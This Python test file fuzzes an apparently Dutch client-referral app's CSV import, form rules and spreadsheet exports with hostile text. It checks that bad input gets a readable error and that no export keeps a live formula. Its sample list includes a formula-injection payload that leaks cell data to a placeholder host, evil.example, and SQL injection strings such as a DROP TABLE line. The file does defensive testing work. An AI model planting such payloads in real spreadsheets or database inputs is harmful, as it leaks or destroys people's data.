"""Random and hostile text (control characters, bidi, huge strings, formula prefixes, SQL-looking
text, impossible dates) through the import, the domain rules and every export: each bad input
gets a clear message, the store stays consistent, and no export holds a formula."""

from __future__ import annotations

import csv
import io
import itertools
import unicodedata
from datetime import date

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from tests.core.test_export_injection import assert_no_live_csv_cell, no_formula_cells
from wor_desk.domain import process
from wor_desk.domain import text as text_rules
from wor_desk.errors import RuleViolation, WorDeskError

TODAY = date(2026, 11, 23)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Utrecht")',
    "=1+1",
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "Robert'); DROP TABLE client;--",
    "' OR '1'='1",
    "\x00",
    "Utr\x1b[2Jecht",
    "Utrecht\nZuid",
    "\u202eyrtnuoC",
    "Zoe\u0308",
    "İstanbul",
    "🙂",
    "\ufeff",
    "x" * 300,
    "é" * 5000,
    "",
    " ",
]
DATES = ["2026-03-02", "31-02-2026", "2099-01-01", "0000-00-00", "1899-12-31", "=TODAY()", ""]
texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40))
_nr = itertools.count()


def _stored_texts_obey_the_rules(desk) -> None:
    with desk.store.session() as s:
        conn = s.connection()
        for row in conn.execute(
            text(
                "SELECT c.achternaam, c.voornaam, c.gemeente, c.wijk, t.verwijzer_praktijk, "
                "t.activiteit FROM client c LEFT JOIN traject t ON t.client_id = c.id"
            )
        ):
            fields = dict(
                zip(
                    (
                        "achternaam",
                        "voornaam",
                        "gemeente",
                        "wijk",
                        "verwijzer_praktijk",
                        "activiteit",
                    ),
                    row,
                    strict=True,
                )
            )
            assert text_rules.check_text(fields) == [], fields
            for v in fields.values():
                assert v is None or unicodedata.is_normalized("NFC", v)
    for r in desk.trajectory_rows():
        assert process.check(desk.trajectory(r.id).facts, TODAY) == []


def _exports_hold_no_formula(desk, tmp_path) -> None:
    no_formula_cells(desk.counts.export("2026", "xlsx"))
    assert_no_live_csv_cell(desk.counts.export("2026", "csv").decode("utf-8"))
    n = next(_nr)
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"kaart{n}{suffix}"
        desk.catalogue.export_csv(out)
        if suffix == ".csv":
            assert_no_live_csv_cell(out.read_text(encoding="utf-8-sig"))
        else:
            no_formula_cells(out.read_bytes())


@given(
    achternaam=texts,
    gemeente=texts,
    wijk=texts,
    praktijk=texts,
    activiteit=texts,
    verwijsdatum=st.sampled_from(DATES),
    mode=st.sampled_from([{}, {"skip_invalid": True}]),
)
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
def test_hostile_text_through_the_import_is_refused_readably_or_stored_clean_and_exported_inert(
    desk, tmp_path, achternaam, gemeente, wijk, praktijk, activiteit, verwijsdatum, mode
):
    sheet = tmp_path / f"blad{next(_nr)}.csv"
    buf = io.StringIO(newline="")
    w = csv.writer(buf)
    w.writerow(
        ["client_nr", "achternaam", "gemeente", "wijk", "verwijzer_praktijk", "verwijsdatum",
         "verwijzer_type", "aanbod", "activiteit", "kennismaking", "start_activiteit"]
    )  # fmt: skip
    w.writerow(
        [f"H{next(_nr)}", achternaam, gemeente, wijk, praktijk, verwijsdatum, "huisarts",
         "bewegen", activiteit, "", ""]
    )  # fmt: skip
    sheet.write_bytes(buf.getvalue().encode("utf-8", errors="surrogatepass"))
    before = desk.status().trajectories
    try:
        report = desk.import_sheet(sheet, **mode)
    except WorDeskError as exc:
        assert str(exc) and "\n" not in str(exc)
        assert desk.status().trajectories == before
    else:
        for p in report.errors:
            assert p.row == 2 and p.column and p.message()
        assert desk.status().trajectories == before + (1 if report.written else 0)
    _stored_texts_obey_the_rules(desk)
    _exports_hold_no_formula(desk, tmp_path)


@given(
    field=st.sampled_from(["achternaam", "voornaam", "gemeente", "wijk", "telefoon"]), value=texts
)
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_hostile_text_through_the_form_rules_is_refused_with_a_message_or_stored_clean(
    desk, field, value
):
    fields = {"client_nr": f"F{next(_nr)}", "achternaam": "Jansen", field: value}
    try:
        cid, _ = desk.add_client(**fields)
    except RuleViolation as exc:
        assert exc.violations and all(v.message() for v in exc.violations)
        return
    stored = getattr(desk.client(cid), field)
    assert stored is None or (
        text_rules.check_text({field: stored}) == [] and unicodedata.is_normalized("NFC", stored)
    )


@given(name=texts, town=texts)
@settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
def test_hostile_text_in_the_sociale_kaart_is_refused_or_exported_inert(desk, tmp_path, name, town):
    try:
        desk.catalogue.add(naam=name or "x", aanbod="bewegen", gemeente=town)
    except RuleViolation as exc:
        assert all(v.message() for v in exc.violations)
    _exports_hold_no_formula(desk, tmp_path)
